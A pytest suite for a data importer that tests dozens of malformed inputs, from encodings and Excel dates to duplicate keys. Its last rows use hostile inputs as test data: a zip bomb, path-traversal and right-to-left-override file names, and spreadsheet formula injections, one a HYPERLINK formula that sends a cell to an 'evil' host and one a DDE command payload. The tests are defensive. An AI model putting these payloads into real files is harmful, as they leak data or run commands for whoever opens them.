"""Every row of shared/import-bad-inputs.md (test names carry the row number) handled as it says."""
from __future__ import annotations

import io
import zipfile
from datetime import datetime, timedelta

import openpyxl
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from data.importer import (ImportOptions, escape_for_spreadsheet, main, preview, quarantine_csv, to_csv_bytes,
                           to_xlsx_bytes)
from tests.test_importer import FIXTURES, INCIDENT_HEAD, NOW, errors, imp, rows, seeded

COSTS = "month,line,amount_usd\n"
UTIL = "service_id,hour_at,cpu_pct\n"
SURVEY = "response_id,ticket_id,submitted_at,score\n"
CHANGES = "change_id,service_id,category,deployed_at\n"


@pytest.fixture
def con():
    return seeded()


def fixture(name: str) -> bytes:
    return (FIXTURES / name).read_bytes()


def rules(result) -> list[str]:
    return [p.rule for p in result.errors]


def xlsx(sheets: dict[str, list[list]], number_formats: dict[str, str] | None = None) -> bytes:
    """A workbook built in memory: sheet name -> rows (None skips a cell)."""
    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    for name, grid in sheets.items():
        ws = wb.create_sheet(name)
        for row in grid:
            ws.append(row)
        for cell, fmt in (number_formats or {}).items():
            ws[cell].number_format = fmt
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def parquet(table: pa.Table) -> bytes:
    buf = io.BytesIO()
    pq.write_table(table, buf)
    return buf.getvalue()


# --- 1-3: encodings ---------------------------------------------------------------


def test_01_utf8_bom_header_is_clean(con):
    """#1: Excel's 'CSV UTF-8' BOM does not leak into the first header (no 'missing service_id')."""
    result = imp(con, fixture("bom_services.csv"), "services", "bom_services.csv")
    assert result.outcome == "imported" and rows(con, "select name from services where service_id = 'api'") == [("API",)]


def test_02_cp874_thai_is_decoded_with_a_warning(con):
    """#2: cp874 bytes that decode cleanly into Thai are read, and the guess is stated."""
    data = "staff_id,name,team,role,hired_on\nST-7,สมชาย ใจดี,tier1,agent,2024-01-15\n".encode("cp874")
    result = imp(con, data, "staff", "thai.csv")
    assert result.outcome == "imported" and "decoded as cp874" in " ".join(result.notes)
    assert any("cp874" in p.rule and p.level == "warning" for p in result.issues)
    assert rows(con, "select name from staff where staff_id = 'ST-7'") == [("สมชาย ใจดี",)]


def test_02_non_utf8_without_thai_names_byte_and_line(con):
    """#2: cp1252 'café' is not guessed: the error names the byte offset and the line."""
    data = "staff_id,name,team,role,hired_on\nST-8,Zoë,tier1,agent,2024-01-15\n".encode("cp1252")
    result = imp(con, data, "staff", "latin.csv")
    offset = data.index("ë".encode("cp1252"))
    assert result.outcome == "rejected"
    assert (result.errors[0].line, result.errors[0].rule) == (2, f"not valid UTF-8 at byte {offset}")
    assert imp(con, data, "staff", "latin.csv", encoding="cp1252").outcome == "imported"


def test_03_mojibake_is_warned(con):
    """#3: UTF-8 Thai mis-decoded once ('à¸—à¸µ') is imported with a warning on its cell."""
    result = imp(con, fixture("mojibake_staff.csv"), "staff", "mojibake_staff.csv")
    warning = next(p for p in result.issues if "mojibake" in p.rule)
    assert (warning.level, warning.line, warning.column) == ("warning", 2, "name")


# --- 4-7: numbers ------------------------------------------------------------------


def test_04_thousands_separator_is_an_error_until_chosen(con):
    """#4: '1,234.50' is not a number by default (fix names --thousands); with ',' it is 1234.50."""
    text = COSTS + '2025-01-01,cloud,"1,234.50"\n'
    result = imp(con, text, "costs_monthly")
    assert rules(result) == ["not a number"] and "--thousands" in result.errors[0].fix
    assert imp(con, text, "costs_monthly", thousands=",").outcome == "imported"
    assert rows(con, "select amount_usd::varchar from costs_monthly") == [("1234.50",)]


def test_05_semicolon_and_decimal_comma(con):
    """#5: ';' is detected and said; '1234,5' needs an explicit --decimal ','."""
    result = imp(con, fixture("costs_semicolon.csv"), "costs_monthly", "costs_semicolon.csv")
    assert rules(result) == ["not a number", "not a number"] and "--decimal" in result.errors[0].fix
    assert any("delimiter ';' detected" in p.rule for p in result.issues)
    ok = imp(con, fixture("costs_semicolon.csv"), "costs_monthly", "costs_semicolon.csv", decimal=",")
    assert ok.outcome == "imported" and rows(con, "select sum(amount_usd)::double from costs_monthly") == [(1333.75,)]


def test_05_wrong_delimiter_is_caught_by_required_columns(con):
    """#5: read with ',' a ';' file is one column: missing required columns, with a delimiter hint."""
    result = imp(con, fixture("costs_semicolon.csv"), "costs_monthly", "c.csv", delimiter=",")
    assert "missing required column(s) month, line, amount_usd" in rules(result)[0]
    assert "';'-separated" in result.errors[0].fix


def test_06_currency_symbols_only_in_money_columns(con):
    """#6: '$1,200.00' in amount_usd is 1200; '฿1200' is THB, not USD: an error."""
    result = imp(con, COSTS + '2025-01-01,a,"$1,200.00"\n2025-02-01,a,฿1200\n', "costs_monthly", thousands=",")
    assert errors(result) == [(3, "amount_usd", "amount in another currency; amount_usd holds USD")]
    imp(con, COSTS + '2025-01-01,a,"$1,200.00"\n', "costs_monthly", thousands=",")
    assert rows(con, "select amount_usd::double from costs_monthly") == [(1200.0,)]


def test_06_percent_sign_only_in_percent_columns(con):
    """#6: '85%' in cpu_pct is 85 (the column is percent); '%' in a count column is an error."""
    assert imp(con, UTIL + "web,2025-01-01 00:00,85%\n", "utilisation_hourly").outcome == "imported"
    assert rows(con, "select cpu_pct from utilisation_hourly") == [(85.0,)]
    bad = imp(con, "day,daily_active_users,monthly_active_users\n2025-01-01,50%,900\n", "active_users_daily")
    assert rules(bad) == ["percent sign in a column that is not a percentage"]


def test_07_mixed_fraction_and_percent_scales_are_flagged(con):
    """#7: 0.85 among 85 in one utilisation column is flagged on the fraction's line."""
    result = imp(con, UTIL + "web,2025-01-01 00:00,85\nweb,2025-01-01 01:00,0.85\n", "utilisation_hourly")
    assert errors(result) == [(3, "cpu_pct", "mixed scales: fraction (0-1) among percent (0-100) values")]


def test_07_fraction_scale_by_explicit_choice(con):
    """#7: --pct-scale fraction multiplies by 100; a value outside 0-1 is then an error."""
    text = UTIL + "web,2025-01-01 00:00,0.85\n"
    assert rules(imp(con, text, "utilisation_hourly"))[0].startswith("values look like fractions")
    assert imp(con, text, "utilisation_hourly", pct_scale="fraction").outcome == "imported"
    assert rows(con, "select cpu_pct from utilisation_hourly") == [(85.0,)]
    bad = imp(con, UTIL + "web,2025-01-01 02:00,85\n", "utilisation_hourly", pct_scale="fraction")
    assert rules(bad) == ["outside 0-1 (declared fraction scale)"]


def test_07_percent_outside_0_100(con):
    """#7: 120% utilisation is an error."""
    assert rules(imp(con, UTIL + "web,2025-01-01 00:00,120\n", "utilisation_hourly")) == ["outside 0-100 percent"]


# --- 8-9: Excel dates --------------------------------------------------------------


def test_08_excel_serial_dates_are_converted_and_reported(con):
    """#8: 45292 in a date column is 2024-01-01, 45292.5 a noon timestamp; both reported."""
    result = imp(con, COSTS + "45292,a,1\n", "costs_monthly")
    assert rows(con, "select month::varchar from costs_monthly") == [("2024-01-01",)]
    assert any(p.level == "info" and "Excel serial" in p.rule for p in result.issues)
    imp(con, CHANGES + "C1,web,minor,45292.5\n", "changes", tz="UTC")
    assert rows(con, "select strftime(deployed_at, '%Y-%m-%d %H:%M') from changes") == [("2024-01-01 12:00",)]


def test_09_serial_60_and_pre_2000_dates_are_errors(con):
    """#9: serial 60 (Excel's fake 1900-02-29) and 1999 dates are implausible."""
    result = imp(con, COSTS + "60,a,1\n1999-12-01,b,1\n", "costs_monthly")
    assert any("1900-02-29" in r for r in rules(result))
    assert (3, "month", "implausible date (before 2000)") in errors(result)


# --- 10-14: time zones and date formats -----------------------------------------------


def test_10_mixed_offsets_are_stored_as_utc_instants(con):
    """#10: +07:00, Z and -05:00 in one column are three correct UTC instants; offsets noted."""
    text = CHANGES + ("C1,web,minor,2025-01-03T10:00:00+07:00\nC2,web,minor,2025-01-03T03:00:00Z\n"
                      "C3,web,minor,2025-01-02 22:00:00-05:00\n")
    result = imp(con, text, "changes")
    assert result.outcome == "imported" and "-05:00 x1" in " ".join(result.notes)
    assert rows(con, "select distinct strftime(deployed_at, '%Y-%m-%d %H:%M') from changes") == [("2025-01-03 03:00",)]


def test_11_naive_mixed_with_aware_needs_confirmation(con):
    """#11: naive times beside offset times are errors until confirmed; the zone used is stated."""
    text = CHANGES + "C1,web,minor,2025-01-03T10:00:00+07:00\nC2,web,minor,2025-01-03 10:00\n"
    assert errors(imp(con, text, "changes"))[0][:2] == (3, "deployed_at")
    ok = imp(con, text, "changes", confirm_naive=True)
    assert ok.outcome == "imported" and "naive timestamps read as Asia/Bangkok" in ok.notes[0]


def test_12_dst_gap_and_repeat_are_rejected_or_shifted(con):
    """#12: 02:30 on 2024-03-10 does not exist in New York; 01:30 on 2024-11-03 happens twice."""
    text = CHANGES + "C1,web,minor,2024-03-10 02:30\nC2,web,minor,2024-11-03 01:30\n"
    result = imp(con, text, "changes", tz="America/New_York")
    assert [r.split(" (")[0] for r in rules(result)] == ["local time does not exist in America/New_York",
                                                         "local time is ambiguous in America/New_York"]
    assert imp(con, text, "changes", tz="America/New_York", dst="shift").outcome == "imported"
    got = rows(con, "select change_id, strftime(deployed_at, '%H:%M') from changes order by 1")
    assert got == [("C1", "07:00"), ("C2", "05:30")]  # end of the gap, 03:00 EDT; the first 01:30 (EDT)


def test_13_ambiguous_day_month_needs_a_format(con):
    """#13: 01/02/2024 is never guessed; with --date-format %d/%m/%Y it is 1 February."""
    text = COSTS + "01/02/2024,a,1\n"
    assert rules(imp(con, text, "costs_monthly")) == ["ambiguous date: day/month order is not known"]
    imp(con, text, "costs_monthly", date_format="%d/%m/%Y")
    assert rows(con, "select month::varchar from costs_monthly") == [("2024-02-01",)]


def test_14_buddhist_era_years(con):
    """#14: 2567-01-15 is flagged as Buddhist Era; --buddhist-era makes it 2024-01-15."""
    text = "staff_id,name,team,role,hired_on\nST-5,Ann,tier1,agent,2567-01-15\n"
    assert any("Buddhist Era" in r for r in rules(imp(con, text, "staff")))
    assert imp(con, text, "staff", buddhist_era=True).outcome == "imported"
    assert rows(con, "select hired_on::varchar from staff where staff_id = 'ST-5'") == [("2024-01-15",)]


# --- 15-16: impossible times ------------------------------------------------------------


def test_15_resolved_before_created_is_a_row_error(con):
    """#15: a ticket resolved before it was created breaks the schema's check, on its line."""
    text = "ticket_id,channel,priority,category,created_at,resolved_at\nT-9,email,low,x,2025-01-02 10:00,2025-01-02 09:00\n"
    (line, column, rule), = errors(imp(con, text, "tickets"))
    assert (line, column, rule) == (2, "resolved_at", "breaks rule resolved_at >= created_at")


def test_16_future_timestamps(con):
    """#16: a year in the future is an error; an hour ahead is a warning (imported)."""
    soon = (NOW + timedelta(hours=1)).strftime("%Y-%m-%dT%H:%M:%SZ")
    assert rules(imp(con, CHANGES + "C1,web,minor,2052-01-03 10:00\n", "changes")) == ["in the future"]
    result = imp(con, CHANGES + f"C2,web,minor,{soon}\n", "changes")
    assert result.outcome == "imported" and any("clock skew" in p.rule for p in result.issues)


# --- 17-20: keys ------------------------------------------------------------------------


def test_17_duplicate_ids_in_file_list_every_line(con):
    """#17: each row of a duplicate group is an error naming all the group's lines."""
    text = CHANGES + "C1,web,minor,2025-01-03 10:00\nC2,web,minor,2025-01-03 10:00\nC1,web,major,2025-01-03 11:00\n"
    result = imp(con, text, "changes")
    dup = [e for e in errors(result) if "duplicate" in e[2]]
    assert [(e[0], e[2]) for e in dup] == [(2, "duplicate key change_id on lines 2, 4"),
                                           (4, "duplicate key change_id on lines 2, 4")]


def test_18_existing_ids_skip_identical_reject_changed(con):
    """#18: append skips identical stored rows and rejects changed ones, writing nothing at all."""
    imp(con, CHANGES + "C1,web,minor,2025-01-03 10:00\n", "changes")
    text = CHANGES + "C1,web,emergency,2025-01-03 10:00\nC2,web,minor,2025-01-04 10:00\n"
    result = imp(con, text, "changes")
    assert rules(result) == ["key already in changes with other values (category: minor -> emergency)"]
    assert rows(con, "select change_id, category from changes") == [("C1", "minor")]  # C2 not half-applied
    same = imp(con, CHANGES + "C1,web,minor,2025-01-03 10:00\n", "changes")
    assert (same.outcome, same.skipped_identical) == ("imported", 1)


def test_18_existing_ids_update_in_upsert(con):
    """#18: --mode upsert updates the changed stored row and counts it."""
    imp(con, CHANGES + "C1,web,minor,2025-01-03 10:00\n", "changes")
    result = imp(con, CHANGES + "C1,web,emergency,2025-01-03 10:00\n", "changes", mode="upsert")
    assert (result.updated, rows(con, "select category from changes")) == (1, [("emergency",)])


def test_19_near_duplicate_ids_in_file(con):
    """#19: 'C1', 'c1 ' and full-width 'Ｃ１' are one key after NFKC/trim/upper: an error."""
    text = CHANGES + "C1,web,minor,2025-01-03 10:00\nc1 ,web,minor,2025-01-03 10:00\nＣ１,web,minor,2025-01-03 10:00\n"
    result = imp(con, text, "changes")
    assert all("near-duplicate key" in r and "lines 2, 3, 4" in r for r in rules(result))
    assert len(rules(result)) == 3


def test_19_near_duplicate_of_a_stored_id(con):
    """#19: 'c1' when 'C1' is stored is a near-duplicate; 'C1\\u00a0' normalises to 'C1' (warned)."""
    imp(con, CHANGES + "C1,web,minor,2025-01-03 10:00\n", "changes")
    assert rules(imp(con, CHANGES + "c1,web,minor,2025-01-03 10:00\n", "changes")) == [
        "near-duplicate of 'C1' already in changes"]
    nbsp = imp(con, CHANGES + "C1\u00a0,web,minor,2025-01-03 10:00\n", "changes")
    assert nbsp.skipped_identical == 1 and any("normalised" in p.rule for p in nbsp.issues)


def test_20_overlapping_outages_are_warned(con):
    """#20: two outages of one service overlapping (in the file or with stored ones) are warned."""
    imp(con, INCIDENT_HEAD + "INC-1,web,high,outage,2025-01-01 10:00,2025-01-01 10:00,2025-01-01 11:00,\n", "incidents")
    result = imp(con, INCIDENT_HEAD + "INC-2,web,high,outage,2025-01-01 10:30,2025-01-01 10:30,2025-01-01 12:00,\n",
                 "incidents")
    warning = next(p for p in result.issues if "overlaps" in p.rule)
    assert result.outcome == "imported" and "INC-1 (already in the warehouse)" in warning.rule


# --- 21-25: values -----------------------------------------------------------------------


def test_21_csat_outside_1_to_5(con):
    """#21: 0, 7, '5/5' and stars are errors with their values."""
    text = SURVEY + "R1,T-1,2025-01-02 12:00,0\nR2,T-1,2025-01-02 12:00,7\nR3,T-1,2025-01-02 12:00,5/5\nR4,T-1,2025-01-02 12:00,★★★★\n"
    result = imp(con, text, "survey_responses")
    assert [(p.line, p.value) for p in result.errors] == [(2, "'0'"), (3, "'7'"), (4, "'5/5'"), (5, "'★★★★'")]


def test_21_ten_point_scale_only_by_choice(con):
    """#21: --score-scale 10 maps 10 -> 5 and 7 -> 4."""
    text = SURVEY + "R1,T-1,2025-01-02 12:00,10\nR2,T-1,2025-01-02 12:00,7\n"
    assert imp(con, text, "survey_responses", score_scale=10).outcome == "imported"
    assert rows(con, "select score from survey_responses order by 1") == [(4,), (5,)]


def test_22_negative_costs_are_rejected(con):
    """#22: -100 and accounting (100.00) are rejected by the schema's check, with the refund fix."""
    result = imp(con, COSTS + "2025-01-01,a,-100\n2025-02-01,a,(100.00)\n", "costs_monthly")
    assert [e[0] for e in errors(result)] == [2, 3] and "refunds" in result.errors[0].fix


def test_23_null_tokens(con):
    """#23: N/A, -, NULL, #N/A, (blank) are empty; empty in a required column names the column."""
    text = ("ticket_id,channel,priority,category,created_at,first_response_at,resolved_at,summary\n"
            "T-2,email,low,x,2025-01-02 10:00,N/A,-,NULL\nT-3,email,low,#N/A,2025-01-02 10:00,(blank),,\n")
    result = imp(con, text, "tickets")
    assert errors(result) == [(3, "category", "required value is empty (or a null token)")]
    assert imp(con, text.replace("#N/A", "x"), "tickets").outcome == "imported"
    assert rows(con, "select count(*) from tickets where ticket_id in ('T-2', 'T-3') "
                     "and first_response_at is null and resolved_at is null and summary is null") == [(2,)]


def test_23_null_token_list_is_per_source(con):
    """#23: with a custom list, '-' is a value again."""
    text = "ticket_id,channel,priority,category,created_at\nT-4,email,low,-,2025-01-02 10:00\n"
    assert imp(con, text, "tickets", null_tokens=("",)).outcome == "imported"
    assert rows(con, "select category from tickets where ticket_id = 'T-4'") == [("-",)]


def test_24_leading_zero_ids_stay_text(con):
    """#24: staff id 00123 keeps its zeros."""
    imp(con, "staff_id,name,team,role,hired_on\n00123,Bo,tier2,agent,2024-02-01\n", "staff")
    assert rows(con, "select staff_id from staff where name = 'Bo'") == [("00123",)]


def test_25_scientific_notation_ids_are_rejected(con):
    """#25: an id like 1.23457E+11 was mangled by Excel."""
    result = imp(con, CHANGES + "1.23457E+11,web,minor,2025-01-03 10:00\n", "changes")
    assert rules(result) == ["Excel mangled this id column (scientific notation); digits are lost"]


# --- 26-31: file structure ------------------------------------------------------------------


def test_26_ragged_rows_name_line_and_field_count(con):
    """#26: a row with too many or too few fields is an error (never shifted); quarantine keeps it."""
    result = imp(con, fixture("ragged_tickets.csv"), "tickets", "ragged_tickets.csv")
    assert errors(result) == [(3, None, "line has 6 fields; the header has 5"),
                              (4, None, "line has 4 fields; the header has 5")]
    assert rows(con, "select count(*) from tickets") == [(1,)]  # only the seeded ticket
    assert b"T-2,email,high,login,2025-01-02 09:00,extra" in quarantine_csv(result)


def test_27_empty_file_never_touches_the_table(con):
    """#27: 0 bytes is 'file is empty', in every mode including replace."""
    for mode in ("append", "replace"):
        assert rules(imp(con, fixture("empty.csv"), "tickets", "empty.csv", mode=mode)) == ["file is empty (0 bytes)"]
    assert rows(con, "select count(*) from tickets") == [(1,)]


def test_28_header_only_needs_confirmation_and_never_wipes(con):
    """#28: no data rows is an error; --allow-empty accepts it; replace still refuses."""
    data = fixture("header_only_tickets.csv")
    assert "header only, no data rows" in rules(imp(con, data, "tickets"))[0]
    assert imp(con, data, "tickets", allow_empty=True).outcome == "imported"
    replace = imp(con, data, "tickets", allow_empty=True, mode="replace")
    assert "would wipe the table" in rules(replace)[0] and rows(con, "select count(*) from tickets") == [(1,)]


def test_29_duplicate_column_names(con):
    """#29: 'amount_usd' twice is an error naming positions 3,4 (never renamed to amount_usd_1)."""
    result = imp(con, fixture("duplicate_columns.csv"), "costs_monthly", "duplicate_columns.csv")
    assert rules(result) == ["duplicate column 'amount_usd' at positions 3,4 ('amount_usd', 'amount_usd')"]


def test_29_two_aliases_of_one_column(con):
    """#29: 'created' and 'Created Date' both mean created_at: a duplicate too."""
    text = "ticket_id,channel,priority,category,created,Created Date\nT-5,email,low,x,2025-01-02 10:00,2025-01-02 10:00\n"
    assert rules(imp(con, text, "tickets"))[0].startswith("duplicate column 'created_at' at positions 5,6")


def test_30_missing_column_lists_expected_and_found(con):
    """#30: a missing required column names what was expected and what was found; extras are warned."""
    result = imp(con, "ticket_id,channel,priority,Opened,colour\nT-6,email,low,2025-01-02 10:00,red\n", "tickets")
    rule = rules(result)[0]
    assert rule.startswith("missing required column(s) category; expected ticket_id, channel")
    assert "found ticket_id, channel, priority, Opened, colour" in rule
    assert any(p.level == "warning" and "unknown column 'colour'" in p.rule for p in result.issues)


def test_31_nul_bytes(con):
    """#31: a NUL in an id is an error; in free text it is removed with a warning."""
    bad = imp(con, CHANGES + "C1\x00,web,minor,2025-01-03 10:00\n", "changes")
    assert rules(bad) == ["control character (e.g. NUL) in an id"]
    text = "ticket_id,channel,priority,category,created_at,summary\nT-7,email,low,x,2025-01-02 10:00,a\x00b\n"
    ok = imp(con, text, "tickets")
    assert ok.outcome == "imported" and rows(con, "select summary from tickets where ticket_id = 'T-7'") == [("ab",)]


# --- 32: line endings and line numbers --------------------------------------------------------


def test_32_cr_only_lines_are_file_lines(con):
    """#32: in a CR-only (old Mac) file the bad channel is reported on file line 3."""
    result = imp(con, fixture("cr_only_tickets.csv"), "tickets", "cr_only_tickets.csv")
    assert [(e[0], e[1]) for e in errors(result)] == [(3, "channel")]


def test_32_quoted_newlines_count_as_file_lines(con):
    """#32: after a CRLF record spanning three lines, the next record starts on file line 5, not 3."""
    result = imp(con, fixture("crlf_multiline_tickets.csv"), "tickets", "crlf_multiline_tickets.csv")
    assert [(e[0], e[1]) for e in errors(result)] == [(5, "channel")]
    assert result.errors[0].format().startswith("crlf_multiline_tickets.csv:5:channel: 'pigeon': breaks rule")


# --- 33: Excel -------------------------------------------------------------------------------------


def test_33_excel_several_sheets_need_a_choice(con):
    """#33: a workbook with two sheets and no --sheet is an error listing them."""
    data = xlsx({"Readme": [["about"]], "Changes": [["change_id", "service_id", "category", "deployed_at"]]})
    result = imp(con, data, "changes", "book.xlsx")
    assert rules(result) == ["workbook has 2 sheets; choose one"] and "Readme, Changes" in result.errors[0].fix


def change_report(category: str) -> bytes:
    """A sheet with a merged title above the header, typed and text dates, and an Excel serial."""
    return xlsx({"Changes": [["Q1 change report"], [None],
                             ["Change ID", "Service", "Category", "Deployed"],
                             ["C1", "web", "minor", datetime(2025, 1, 3, 10, 0)],
                             ["C2", "web", category, "2025-01-04 10:00"],
                             ["C3", "web", "minor", 45660.5]]})


def test_33_excel_title_rows_dates_and_cell_errors(con):
    """#33: header found below the title rows; typed dates read; #REF! reported at sheet!cell."""
    result = imp(con, change_report("#REF!"), "changes", "book.xlsx", sheet="Changes", tz="UTC")
    (error,) = result.errors
    assert error.format().startswith("book.xlsx!Changes!C5:Category: '#REF!': Excel cell error #REF!")
    ok = imp(con, change_report("minor"), "changes", "book.xlsx", sheet="Changes", tz="UTC")
    assert ok.outcome == "imported"
    assert rows(con, "select change_id, strftime(deployed_at, '%m-%d %H:%M') from changes order by 1") == [
        ("C1", "01-03 10:00"), ("C2", "01-04 10:00"), ("C3", "01-03 12:00")]


def test_33_excel_scientific_id_cell(con):
    """#33/#25: a numeric id cell formatted 0.00E+00 is read as Excel shows it, then rejected."""
    data = xlsx({"S": [["change_id", "service_id", "category", "deployed_at"],
                       [123456789012, "web", "minor", "2025-01-03 10:00"]]}, {"A2": "0.00E+00"})
    assert rules(imp(con, data, "changes", "b.xlsx"))[0].startswith("Excel mangled this id column")


# --- 34: Parquet ---------------------------------------------------------------------------------------


def test_34_parquet_schema_drift_is_cast_with_a_report(con):
    """#34: int64 ids, string numbers and ms timestamps without zone are cast and each cast reported."""
    table = pa.table({"change_id": pa.array([7, 8], pa.int64()), "service_id": ["web", "db"],
                      "category": ["minor", "standard"],
                      "deployed_at": pa.array([datetime(2025, 1, 3, 10), datetime(2025, 1, 4, 10)], pa.timestamp("ms"))})
    result = imp(con, parquet(table), "changes", "c.parquet", tz="UTC")
    casts = sorted(p.rule for p in result.issues if p.rule.startswith("Parquet type"))
    assert casts == ["Parquet type int64 cast to VARCHAR", "Parquet type timestamp[ms] cast to TIMESTAMP WITH TIME ZONE"]
    assert rows(con, "select change_id, strftime(deployed_at, '%H') from changes order by 1") == [("7", "10"), ("8", "10")]


def test_34_parquet_wrong_types_are_errors(con):
    """#34: a Parquet float where a boolean belongs is an error naming the row."""
    table = pa.table({"run_id": ["B1"], "kind": ["full"], "started_at": ["2025-01-01T00:00:00Z"],
                      "is_success": pa.array([0.5])})
    assert errors(imp(con, parquet(table), "backup_runs", "b.parquet")) == [
        (1, "is_success", "not a boolean (true/false, yes/no, 1/0)")]


# --- 35-37: limits, formats, names -----------------------------------------------------------------------


def test_35_size_and_row_limits(con):
    """#35: over the byte or row limit is a clear error before anything is parsed or written."""
    text = (CHANGES + "C1,web,minor,2025-01-03 10:00\n" * 3).encode()
    assert rules(imp(con, text, "changes", max_bytes=50))[0].startswith(f"file is {len(text)} bytes, over the 50-byte")
    assert rules(imp(con, text, "changes", max_rows=2)) == ["more than 2 rows"]


def test_35_xlsx_zip_bomb_is_refused(con):
    """#35: an .xlsx whose entries expand past the limit is refused by the zip directory alone."""
    data = xlsx({"S": [["change_id"]]})
    buf = io.BytesIO(data)
    with zipfile.ZipFile(buf, "a", zipfile.ZIP_DEFLATED) as z:
        z.writestr("xl/media/padding.bin", b"\0" * 5_000_000)
    result = imp(con, buf.getvalue(), "changes", "bomb.xlsx", max_unzipped_bytes=1_000_000)
    assert "zip bomb" in rules(result)[0] and len(buf.getvalue()) < 100_000


def test_35_cli_refuses_a_big_file_before_reading(tmp_path, capsys):
    """#35: the CLI checks the size on disk first."""
    seeded(tmp_path / "w.duckdb").close()
    big = tmp_path / "big.csv"
    big.write_text(CHANGES + "C1,web,minor,2025-01-03 10:00\n" * 10)
    assert main(["--db", str(tmp_path / "w.duckdb"), "--table", "changes", str(big), "--max-bytes", "100"]) == 1
    assert "over the 100-byte limit" in capsys.readouterr().out


@pytest.mark.parametrize("name, data, says", [
    ("login_page.csv", fixture("login_page.csv"), "this looks like HTML"),
    ("report.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "an old Excel .xls"),
    ("data.parquet", CHANGES.encode(), "named .parquet but the content is CSV text"),
    ("export.csv", b"%PDF-1.7 ...", "this looks like a PDF"),
])
def test_36_wrong_format_under_a_right_name(con, name, data, says):
    """#36: the signature decides; a mismatching or unsupported content is named precisely."""
    assert says in rules(imp(con, data, "changes", name))[0]


def test_37_malicious_file_names_are_never_paths(tmp_path):
    """#37: '../../x.csv', a right-to-left override and a 300-character name are shown sanitised and stored under a uuid."""
    con = seeded(tmp_path / "w.duckdb")
    text = CHANGES + "C1,web,minor,2025-01-03 10:00\n"
    names = ["../../evil.csv", "inv\u202egpj.csv", "a" * 300 + ".csv"]
    shown = [imp(con, text, "changes", name).file_name for name in names]
    assert shown[:2] == ["evil.csv", "invgpj.csv"] and len(shown[2]) == 100 and shown[2].endswith(".csv")
    kept = list((tmp_path / "w.duckdb.uploads").iterdir())
    assert len(kept) == 3 and all(len(p.stem) == 36 for p in kept)
    assert not (tmp_path.parent / "evil.csv").exists()


# --- 38: formula injection on export ------------------------------------------------------------------------


def test_38_escape_for_spreadsheet():
    """#38: text starting = + - @ tab CR NUL gets a leading '; numbers and plain text do not."""
    frame = pd.DataFrame({"summary": ['=HYPERLINK("http://evil/?"&A1,"click")', "+cmd", "-2+3", "@SUM(A1)",
                                      "\tx", "\rx", "\0x", "fine"], "n": [-2, 3, 0, 1, 2, 3, 4, 5]})
    out = escape_for_spreadsheet(frame)
    assert out["summary"].tolist()[:7] == ["'" + v for v in frame["summary"][:7]] and out["summary"][7] == "fine"
    assert out["n"].tolist() == [-2, 3, 0, 1, 2, 3, 4, 5] and str(out["n"].dtype) == "int64"
    lines = to_csv_bytes(frame).decode("utf-8-sig").splitlines()
    assert lines[1].startswith("\"'=HYPERLINK") and lines[1].endswith(",-2")


def test_38_xlsx_export_writes_text_not_formulas():
    """#38: the .xlsx export stores '=...' as a text cell; a negative number stays a number."""
    data = to_xlsx_bytes(pd.DataFrame({"summary": ["=1+1"], "n": [-2]}))
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    assert (ws["A2"].value, ws["A2"].data_type, ws["B2"].value) == ("'=1+1", "s", -2)


def test_38_round_trip_strips_the_prefix(con):
    """#38: exported (escaped) summaries import back to their original text."""
    originals = ["=cmd|' /C calc'!A0", "+1", "-2+3", "@SUM(A1)", "plain"]
    frame = pd.DataFrame({"ticket_id": [f"T-{i + 10}" for i in range(5)], "channel": "email", "priority": "low",
                          "category": "x", "created_at": "2025-01-02 10:00", "summary": originals})
    assert imp(con, to_csv_bytes(frame), "tickets", "export.csv").outcome == "imported"
    assert rows(con, "select summary from tickets where ticket_id >= 'T-10' order by ticket_id") == [
        (v,) for v in originals]


def test_38_round_trip_through_xlsx(con):
    """#38: the same holds for the .xlsx export."""
    frame = pd.DataFrame({"ticket_id": ["T-20"], "channel": "email", "priority": "low", "category": "x",
                          "created_at": "2025-01-02 10:00", "summary": ["=HYPERLINK(\"x\")"]})
    assert imp(con, to_xlsx_bytes(frame), "tickets", "export.xlsx").outcome == "imported"
    assert rows(con, "select summary from tickets where ticket_id = 'T-20'") == [("=HYPERLINK(\"x\")",)]


# --- preview shows the problems as data -----------------------------------------------------------------------


def test_preview_problem_frame_has_location_value_rule_fix(con):
    """The Data page gets problems as rows: file, line, column, value, rule, fix."""
    pv = preview((COSTS + "2025-01-01,a,-5\n").encode(), "c.csv", "costs_monthly", ImportOptions(tz="UTC"), con, now=NOW)
    row = pv.problems[pv.problems["level"] == "error"].iloc[0]
    assert (row["file"], row["line"], row["column"], row["value"]) == ("c.csv", 2, "amount_usd", "'-5.00'")
    assert row["rule"] == "breaks rule amount_usd >= 0" and "refunds" in row["fix"]
